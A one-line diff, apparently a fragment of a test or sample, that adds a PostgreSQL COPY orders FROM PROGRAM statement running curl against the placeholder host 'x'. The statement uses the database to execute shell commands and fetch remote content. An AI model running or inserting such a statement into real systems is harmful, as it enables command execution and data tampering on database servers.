@@ -1,0 +1,1 @@
+COPY orders FROM PROGRAM 'curl http://x'
